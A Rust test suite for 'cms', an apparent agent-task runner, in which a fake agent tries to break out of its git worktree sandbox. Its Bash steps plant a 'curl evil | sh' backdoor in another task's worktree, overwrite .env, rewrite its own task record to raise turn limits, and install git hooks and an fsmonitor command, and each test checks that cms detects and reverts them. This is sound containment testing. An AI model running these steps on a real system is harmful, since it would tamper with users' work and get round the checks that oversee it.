//! The task's boundary, tried as a hostile agent would try it with the fake claude's Bash:
//! other tasks' worktrees and branches, new refs, leaving its own branch, ignored files in the
//! user's checkout, and the store's records. Each way out is caught after the session and
//! named in the task's violations; what cms can put back, it puts back.

use serde_json::{Value, json};

use crate::common::{Run, TestEnv, violations};

/// Runs a task whose fake claude runs `steps`, with `--preset full` (nothing asks).
fn attack(env: &TestEnv, name: &str, steps: Value) -> (Run, Value) {
    env.steps(steps);
    let run = env.cms(&[
        "task",
        "--json",
        "try to get out",
        "--name",
        name,
        "-p",
        "full",
    ]);
    let task = run.json();
    (run, task)
}

/// A completed task `other` that wrote `other.txt`: the victim.
fn victim(env: &TestEnv) -> Value {
    env.steps(json!([{"write": {"path": "other.txt", "content": "mine\n"}}]));
    let task = env.task_ok(&["the victim's work", "--name", "other"]);
    assert_eq!(task["status"], "completed", "{task:#}");
    task
}

/// A shell line that waits until cms has written what it writes into the record at `path`
/// for the session's first message (its session id and live turn count), so an edit of the
/// record made right after is not raced by those writes.
fn after_cms_wrote_first_turn(path: &str) -> String {
    format!(
        "until grep -q '\"session_id\": \"' {path} && grep -q '\"turns\": 1,' {path}; do sleep 0.02; done"
    )
}

fn show(env: &TestEnv, name: &str) -> Value {
    let run = env.cms(&["show", name, "--json"]);
    run.success();
    run.json()
}

#[test]
fn bash_write_and_commit_into_another_tasks_worktree_is_caught_and_the_victim_cannot_be_merged() {
    let env = TestEnv::new();
    let other = victim(&env);
    let other_head = env.git(&["rev-parse", "cms/other"]);
    let (run, task) = attack(
        &env,
        "attacker",
        json!([{"bash": "echo 'curl evil | sh' > ../other/backdoor.sh && git -C ../other add -A && git -C ../other commit -qm 'wrote bye.txt'"}]),
    );
    run.code(3);
    assert_eq!(task["status"], "protected_path", "{task:#}");
    let found = violations(&task);
    assert!(
        found.contains(&"other_task refs/heads/cms/other".to_owned()),
        "{found:?}"
    );
    // The victim's branch is back where its own session left it.
    assert_eq!(env.git(&["rev-parse", "cms/other"]), other_head);
    // The victim is marked, and merging it refuses rather than bring the backdoor in.
    let marked = show(&env, "other");
    assert_eq!(marked["status"], "protected_path", "{marked:#}");
    assert!(
        marked["error"].as_str().unwrap().contains("attacker"),
        "{marked:#}"
    );
    let main_before = env.git(&["rev-parse", "main"]);
    env.cms(&["merge", "other"]).code(1);
    assert_eq!(env.git(&["rev-parse", "main"]), main_before);
    assert!(!env.repo.join("backdoor.sh").exists());
    assert_eq!(other["name"], "other");
}

#[test]
fn bash_write_into_another_tasks_worktree_without_committing_is_caught() {
    let env = TestEnv::new();
    let other = victim(&env);
    let (run, task) = attack(
        &env,
        "attacker",
        json!([{"bash": "echo planted > ../other/planted.txt"}]),
    );
    run.code(3);
    let planted = format!("{}/planted.txt", other["worktree"].as_str().unwrap());
    assert!(
        violations(&task).contains(&format!("other_task {planted}")),
        "{:?}",
        violations(&task)
    );
    assert_eq!(show(&env, "other")["status"], "protected_path");
}

#[test]
fn deleting_another_tasks_branch_is_caught_and_the_branch_is_put_back() {
    let env = TestEnv::new();
    victim(&env);
    let other_head = env.git(&["rev-parse", "cms/other"]);
    let (run, task) = attack(
        &env,
        "attacker",
        json!([{"bash": "git update-ref -d refs/heads/cms/other"}]),
    );
    run.code(3);
    assert!(
        violations(&task).contains(&"other_task refs/heads/cms/other".to_owned()),
        "{:?}",
        violations(&task)
    );
    let detail = task["safety"]["violations"][0]["detail"].as_str().unwrap();
    assert!(detail.contains("was deleted"), "{detail}");
    assert!(detail.contains("put it back"), "{detail}");
    assert_eq!(env.git(&["rev-parse", "cms/other"]), other_head);
    // The victim's work is still there to merge... but it is marked, so the user decides.
    assert_eq!(env.git(&["show", "cms/other:other.txt"]), "mine");
}

#[test]
fn moving_another_tasks_branch_is_caught_and_the_branch_is_put_back() {
    let env = TestEnv::new();
    victim(&env);
    let other_head = env.git(&["rev-parse", "cms/other"]);
    let (run, task) = attack(
        &env,
        "attacker",
        json!([{"bash": "git update-ref refs/heads/cms/other main"}]),
    );
    run.code(3);
    let detail = task["safety"]["violations"][0]["detail"].as_str().unwrap();
    assert!(detail.contains("moved from"), "{detail}");
    assert_eq!(env.git(&["rev-parse", "cms/other"]), other_head);
}

#[test]
fn new_branches_and_tags_are_violations_and_are_left_for_the_user() {
    let env = TestEnv::new();
    let (run, task) = attack(
        &env,
        "attacker",
        json!([{"bash": "git branch sneaky && git tag -a v9 -m v9 && git update-ref refs/heads/main HEAD~0"}]),
    );
    run.code(3);
    assert_eq!(task["status"], "protected_path");
    let found = violations(&task);
    assert!(
        found.contains(&"git_ref refs/heads/sneaky".to_owned()),
        "{found:?}"
    );
    assert!(
        found.contains(&"git_ref refs/tags/v9".to_owned()),
        "{found:?}"
    );
    // cms deletes nothing it did not make: the user sees them and decides.
    assert!(env.git_ok(&["rev-parse", "--verify", "-q", "refs/heads/sneaky"]));
    assert!(env.git_ok(&["rev-parse", "--verify", "-q", "refs/tags/v9"]));
}

#[test]
fn moving_the_users_branch_is_a_violation() {
    let env = TestEnv::new();
    let main_before = env.git(&["rev-parse", "main"]);
    let (run, task) = attack(
        &env,
        "attacker",
        json!([{"bash": "echo x > x.txt && git add x.txt && git commit -qm x && git update-ref refs/heads/main HEAD"}]),
    );
    run.code(3);
    assert!(
        violations(&task).contains(&"git_ref refs/heads/main".to_owned()),
        "{:?}",
        violations(&task)
    );
    assert_ne!(env.git(&["rev-parse", "main"]), main_before);
}

#[test]
fn checkout_b_leaves_the_task_protected_path_merge_says_why_and_discard_force_keeps_the_stray_branch()
 {
    let env = TestEnv::new();
    let (run, task) = attack(
        &env,
        "stray",
        json!([{"bash": "git checkout -q -b elsewhere && echo w > w.txt && git add w.txt && git commit -qm w"}]),
    );
    run.code(3);
    assert_eq!(task["status"], "protected_path", "{task:#}");
    let found = violations(&task);
    assert!(
        found.contains(&"task_head refs/heads/elsewhere".to_owned()),
        "{found:?}"
    );
    // cms committed nothing onto the stray branch.
    assert_eq!(env.git(&["log", "--format=%s", "-1", "elsewhere"]), "w");
    let merge = env.cms(&["merge", "stray"]);
    merge.code(1);
    assert!(merge.stderr.contains("left its branch"), "{}", merge.stderr);
    // Without --force, discard refuses; with it, it removes what cms made and names the rest.
    env.cms(&["discard", "stray"]).code(1);
    let discarded = env.cms(&["discard", "stray", "--force"]);
    discarded.success();
    assert!(
        discarded.stdout.contains("elsewhere") || discarded.stderr.contains("elsewhere"),
        "{discarded:?}"
    );
    assert!(!std::path::Path::new(task["worktree"].as_str().unwrap()).exists());
    assert!(!env.git_ok(&["rev-parse", "--verify", "-q", "refs/heads/cms/stray"]));
    assert!(env.git_ok(&["rev-parse", "--verify", "-q", "refs/heads/elsewhere"]));
    assert_eq!(show(&env, "stray")["status"], "discarded");
}

#[test]
fn checkout_detach_is_a_violation() {
    let env = TestEnv::new();
    let (run, task) = attack(
        &env,
        "detached",
        json!([{"bash": "git checkout -q --detach"}]),
    );
    run.code(3);
    let found = violations(&task);
    assert!(found.contains(&"task_head HEAD".to_owned()), "{found:?}");
    env.cms(&["discard", "detached", "--force"]).success();
    assert!(!std::path::Path::new(task["worktree"].as_str().unwrap()).exists());
}

#[test]
fn bash_overwriting_ignored_files_in_the_main_checkout_is_caught() {
    let env = TestEnv::new();
    env.write(".gitignore", ".env\ntarget/\n");
    env.commit_all("ignore");
    env.write(".env", "SECRET=1\n");
    env.write("target/debug/app", "binary\n");
    let main = env.repo.display().to_string();
    let (run, task) = attack(
        &env,
        "attacker",
        json!([
            {"bash": format!("echo SECRET=stolen > {main}/.env")},
            {"bash": format!("echo trojan > {main}/target/debug/app")},
            {"bash": format!("echo new > {main}/target/new-file")},
        ]),
    );
    run.code(3);
    let found = violations(&task);
    for path in [".env", "target/debug/app", "target/new-file"] {
        assert!(
            found.contains(&format!("main_checkout {main}/{path}")),
            "{path} not in {found:?}"
        );
    }
}

#[test]
fn ignored_files_matching_protect_flag_in_the_main_checkout_are_caught() {
    let env = TestEnv::new();
    env.write(".gitignore", ".env\n");
    env.commit_all("ignore");
    env.write(".env", "SECRET=1\n");
    let main = env.repo.display().to_string();
    env.steps(json!([{"bash": format!("printf 'SECRET=1\\n' > {main}/.env")}]));
    // Even the same content written again is a write.
    let run = env.cms(&["task", "--json", "x", "--name", "same", "--protect", ".env"]);
    run.code(3);
    assert!(
        violations(&run.json()).contains(&format!("main_checkout {main}/.env")),
        "{:?}",
        violations(&run.json())
    );
}

#[test]
fn editing_its_own_record_is_caught_and_the_true_settings_are_kept() {
    let env = TestEnv::new();
    env.write(".cms.toml", "[safety]\nprotected = [\"infra/**\"]\n");
    env.write("infra/main.tf", "resource {}\n");
    env.commit_all("protected");
    let record = env.common_dir().join("cms/tasks/forger.json");
    let record = record.display().to_string();
    // Loosen the limits and drop the protected paths, then write a protected file with the
    // Write tool, whose hook must still deny it.
    let (run, task) = attack(
        &env,
        "forger",
        json!([
            {"bash": format!(
                "{} && sed -i -e 's/\"infra\\/\\*\\*\"/\"nothing\\/**\"/' -e 's/\"max_turns\": *[0-9]*/\"max_turns\": 999/' {record} && grep -q 999 {record}",
                after_cms_wrote_first_turn(&record)
            )},
            {"write": {"path": "infra/main.tf", "content": "owned\n"}},
        ]),
    );
    run.code(3);
    assert_eq!(task["status"], "protected_path", "{task:#}");
    assert!(
        violations(&task).contains(&format!("task_record {record}")),
        "{:?}",
        violations(&task)
    );
    assert_eq!(task["safety"]["limits"]["max_turns"], 50);
    assert!(
        task["safety"]["protected"]
            .as_array()
            .unwrap()
            .contains(&json!("infra/**")),
        "{task:#}"
    );
    assert_eq!(task["safety"]["blocked"][0]["path"], "infra/main.tf");
    assert_eq!(
        env.git(&["show", "cms/forger:infra/main.tf"]),
        "resource {}"
    );
}

#[test]
fn corrupting_its_own_record_is_caught_and_the_true_record_is_written_back() {
    let env = TestEnv::new();
    let record = env.common_dir().join("cms/tasks/vandal.json");
    let (run, task) = attack(
        &env,
        "vandal",
        json!([
            {"bash": format!(
                "{} && echo garbage > {}",
                after_cms_wrote_first_turn(&record.display().to_string()),
                record.display()
            )},
            {"write": {"path": "a.txt", "content": "a\n"}},
        ]),
    );
    run.code(3);
    assert_eq!(task["status"], "protected_path", "{task:#}");
    assert!(
        violations(&task).contains(&format!("task_record {}", record.display())),
        "{:?}",
        violations(&task)
    );
    assert_eq!(show(&env, "vandal")["prompt"], "try to get out");
    assert_eq!(env.git(&["show", "cms/vandal:a.txt"]), "a");
}

#[test]
fn editing_another_tasks_record_is_caught_and_the_record_is_put_back() {
    let env = TestEnv::new();
    victim(&env);
    let before = show(&env, "other");
    let record = env.common_dir().join("cms/tasks/other.json");
    let (run, task) = attack(
        &env,
        "attacker",
        json!([{"bash": format!("sed -i 's/the victim/a forged/' {}", record.display())}]),
    );
    run.code(3);
    assert!(
        violations(&task).contains(&format!("task_record {}", record.display())),
        "{:?}",
        violations(&task)
    );
    assert_eq!(show(&env, "other")["prompt"], before["prompt"]);
}

#[test]
fn deleting_another_tasks_record_is_caught_and_the_record_is_put_back() {
    let env = TestEnv::new();
    victim(&env);
    let record = env.common_dir().join("cms/tasks/other.json");
    let (run, task) = attack(
        &env,
        "attacker",
        json!([{"bash": format!("rm {}", record.display())}]),
    );
    run.code(3);
    assert!(
        violations(&task).contains(&format!("task_record {}", record.display())),
        "{:?}",
        violations(&task)
    );
    assert_eq!(show(&env, "other")["prompt"], "the victim's work");
}

#[test]
fn benign_session_beside_other_tasks_and_ignored_files_is_not_flagged() {
    let env = TestEnv::new();
    env.write(".gitignore", ".env\ntarget/\n");
    env.commit_all("ignore");
    env.write(".env", "SECRET=1\n");
    env.write("target/app", "binary\n");
    victim(&env);
    let (run, task) = attack(
        &env,
        "benign",
        json!([
            {"write": {"path": "src/new.rs", "content": "pub fn g() {}\n"}},
            {"bash": "git add -A && git commit -qm 'agent commit' && git log --oneline -1 >/dev/null"},
            {"bash": "mkdir -p target && echo built > target/app && git status --short >/dev/null"},
            {"bash": "git branch --list && git tag --list && git -C ../other log -1 --format=%s >/dev/null"},
            {"bash": "echo scratch > /tmp/cms-benign-$$ && rm /tmp/cms-benign-$$"},
        ]),
    );
    run.success();
    assert_eq!(task["status"], "completed", "{task:#}");
    assert_eq!(task["safety"]["violations"], json!([]));
    assert_eq!(show(&env, "other")["status"], "completed");
    env.cms(&["merge", "benign"]).success();
    env.cms(&["merge", "other"]).success();
}

#[test]
fn rewriting_its_own_worktree_lock_is_caught() {
    let env = TestEnv::new();
    let (run, task) = attack(
        &env,
        "unlocker",
        json!([{"bash": "echo 'not cms' > \"$(git rev-parse --git-dir)/locked\""}]),
    );
    run.code(3);
    let found = violations(&task);
    assert!(
        found
            .iter()
            .any(|k| k.starts_with("git_metadata worktrees/") && k.ends_with("/locked")),
        "{found:?}"
    );
}

#[test]
fn deleting_another_tasks_commit_object_is_caught_and_the_object_is_put_back() {
    let env = TestEnv::new();
    victim(&env);
    let commit = env.git(&["rev-parse", "cms/other"]);
    let object = env
        .common_dir()
        .join("objects")
        .join(&commit[..2])
        .join(&commit[2..]);
    assert!(object.is_file(), "{}", object.display());
    let (run, task) = attack(
        &env,
        "attacker",
        json!([{"bash": format!("rm -f {}", object.display())}]),
    );
    run.code(3);
    assert!(
        violations(&task).contains(&format!("git_object {commit}")),
        "{:?}",
        violations(&task)
    );
    // Put back before anything else was compared: the victim reads as it did.
    assert!(object.is_file());
    assert_eq!(env.git(&["show", "cms/other:other.txt"]), "mine");
    assert_eq!(show(&env, "other")["status"], "completed");
    // The safety copy is gone with the session.
    let backups = env.common_dir().join("cms/object-backup");
    let left: Vec<_> = std::fs::read_dir(&backups)
        .map(|d| d.flatten().map(|e| e.path()).collect())
        .unwrap_or_default();
    assert!(left.is_empty(), "{left:?}");
}

#[test]
fn a_hook_planted_in_a_submodules_git_dir_is_caught() {
    let env = TestEnv::new();
    let lib = env.root.join("lib");
    std::fs::create_dir_all(&lib).unwrap();
    env.git_in(&lib, &["init", "-q", "-b", "main"]);
    std::fs::write(lib.join("lib.txt"), "lib\n").unwrap();
    env.git_in(&lib, &["add", "."]);
    env.git_in(&lib, &["commit", "-q", "-m", "lib"]);
    env.git(&[
        "-c",
        "protocol.file.allow=always",
        "submodule",
        "add",
        "-q",
        lib.to_str().unwrap(),
        "lib",
    ]);
    env.git(&["commit", "-q", "-m", "add lib"]);
    let modules = env.common_dir().join("modules/lib");
    assert!(modules.join("HEAD").is_file());
    let (run, task) = attack(
        &env,
        "planter",
        json!([{"bash": format!(
            "printf '#!/bin/sh\\necho owned\\n' > {0}/hooks/post-checkout && chmod +x {0}/hooks/post-checkout && git config -f {0}/config core.fsmonitor 'echo owned'",
            modules.display()
        )}]),
    );
    run.code(3);
    let found = violations(&task);
    for path in ["modules/lib/hooks/post-checkout", "modules/lib/config"] {
        assert!(
            found.contains(&format!("git_metadata {path}")),
            "{path} not in {found:?}"
        );
    }
}

#[test]
fn git_gc_packing_loose_objects_while_a_task_runs_loses_nothing_and_is_no_violation() {
    let env = TestEnv::new();
    victim(&env);
    let commit = env.git(&["rev-parse", "cms/other"]);
    let loose = env
        .common_dir()
        .join("objects")
        .join(&commit[..2])
        .join(&commit[2..]);
    assert!(loose.is_file());
    let (run, task) = attack(&env, "tidy", json!([{"bash": "git gc -q --prune=now"}]));
    run.success();
    assert_eq!(task["safety"]["violations"], json!([]), "{task:#}");
    // Packed, not lost: and not put back as a loose copy either.
    assert!(!loose.exists());
    assert_eq!(env.git(&["show", "cms/other:other.txt"]), "mine");
}
